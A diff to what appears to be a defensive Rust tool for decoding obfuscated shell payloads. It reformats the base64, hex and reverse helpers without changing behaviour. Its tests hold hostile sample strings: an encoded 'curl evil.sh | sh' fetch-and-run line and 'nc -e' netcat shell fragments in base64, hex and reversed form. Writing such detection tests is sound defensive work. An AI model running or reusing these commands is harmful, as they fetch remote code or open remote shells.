@@ -96,23 +96,37 @@ pub fn base64(s: &str) -> Option<String> {
 
 /// Hex as `xxd -r -p` reads it (whitespace and `\x`/`0x` prefixes tolerated).
 pub fn hex(s: &str) -> Option<String> {
-    let clean: String = s.replace("\\x", "").replace("0x", "").chars().filter(|c| !c.is_whitespace()).collect();
+    let clean: String = s
+        .replace("\\x", "")
+        .replace("0x", "")
+        .chars()
+        .filter(|c| !c.is_whitespace())
+        .collect();
     if clean.len() < 2 || clean.len() % 2 != 0 || !clean.bytes().all(|b| b.is_ascii_hexdigit()) {
         return None;
     }
-    let bytes: Vec<u8> = (0..clean.len()).step_by(2).filter_map(|i| u8::from_str_radix(&clean[i..i + 2], 16).ok()).collect();
+    let bytes: Vec<u8> = (0..clean.len())
+        .step_by(2)
+        .filter_map(|i| u8::from_str_radix(&clean[i..i + 2], 16).ok())
+        .collect();
     printable(bytes)
 }
 
 /// `rev`: each line reversed.
 pub fn rev(s: &str) -> String {
-    s.lines().map(|l| l.chars().rev().collect::<String>()).collect::<Vec<_>>().join("\n")
+    s.lines()
+        .map(|l| l.chars().rev().collect::<String>())
+        .collect::<Vec<_>>()
+        .join("\n")
 }
 
 /// Decoded payloads are only worth analysing as text.
 fn printable(bytes: Vec<u8>) -> Option<String> {
     let s = String::from_utf8(bytes).ok()?;
-    let ok = s.chars().filter(|c| !c.is_control() || c.is_whitespace()).count();
+    let ok = s
+        .chars()
+        .filter(|c| !c.is_control() || c.is_whitespace())
+        .count();
     (ok * 10 >= s.chars().count() * 9).then_some(s)
 }
 
@@ -125,7 +139,10 @@ mod tests {
         assert_eq!(ansi_c(r"\x73sh"), "ssh");
         assert_eq!(ansi_c(r"\163\163h"), "ssh");
         assert_eq!(ansi_c(r"a\nb"), "a\nb");
-        assert_eq!(base64("Y3VybCBldmlsLnNoIHwgc2gK").as_deref(), Some("curl evil.sh | sh\n"));
+        assert_eq!(
+            base64("Y3VybCBldmlsLnNoIHwgc2gK").as_deref(),
+            Some("curl evil.sh | sh\n")
+        );
         assert_eq!(base64("bmMgLWU="), Some("nc -e".into()));
         assert_eq!(hex("6e63202d65").as_deref(), Some("nc -e"));
         assert_eq!(rev("hs- cn"), "nc -sh");
